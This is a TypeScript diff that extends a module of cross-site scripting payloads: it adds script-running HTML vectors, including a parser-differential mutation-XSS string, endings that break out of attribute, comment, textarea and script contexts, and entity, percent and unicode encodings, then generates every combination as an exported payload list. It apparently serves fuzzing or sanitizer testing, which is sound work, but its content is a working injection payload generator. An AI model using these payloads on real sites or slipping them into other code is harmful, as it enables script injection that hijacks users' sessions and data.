@@ -186,3 +186,39 @@ export const HTML_PAYLOADS: readonly string[] = [
     HANDLERS.map((handler) => `<${tag} ${handler}=${CALL} src=x href=x autofocus tabindex=0>x</${tag}>`),
   ),
 ];
+
+/** What runs a script where it is read as markup: by element, handler, address, and by parsers that disagree. */
+const VECTORS: readonly string[] = [
+  `<script>${CALL}</script>`,
+  `<img src=x onerror=${CALL}>`,
+  `<svg onload=${CALL}>`,
+  `<a href="javascript:${CALL}" id=location>x</a>`,
+  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
+  `<details open ontoggle=${CALL}>x</details>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
+  `<form><button formaction=javascript:${CALL} autofocus onfocus=${CALL}>x`,
+];
+
+/** What ends the place that a text may stand in: a text, an attribute, a comment, an element of plain text, data of a script. */
+const ENDINGS: readonly string[] = [
+  ...['', '">', "'>", '-->', '</title></textarea></style></noscript>', '</script>', ']]>', '`}}${', '\\"}]'],
+];
+
+const numbered = (text: string, write: (code: number) => string) =>
+  text.replace(/[<>"'&=]/g, (one) => write(one.charCodeAt(0)));
+
+/** Spellings that a later step may take back: once too often is enough. */
+const SPELLINGS: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => numbered(text, (code) => `&#${code};`),
+  (text) => numbered(text, (code) => `&#x${code.toString(16)};`),
+  (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
+  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
+  (text) => numbered(text, (code) => `%${code.toString(16)}`),
+  (text) => numbered(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
+];
+
+/** Every vector behind every ending in every spelling, for places that take any text: titles, labels, names, tags, records. */
+export const TEXT_PAYLOADS: readonly string[] = [
+  ...new Set(VECTORS.flatMap((vector) => ENDINGS.flatMap((end) => SPELLINGS.map((spell) => spell(end + vector))))),
+];
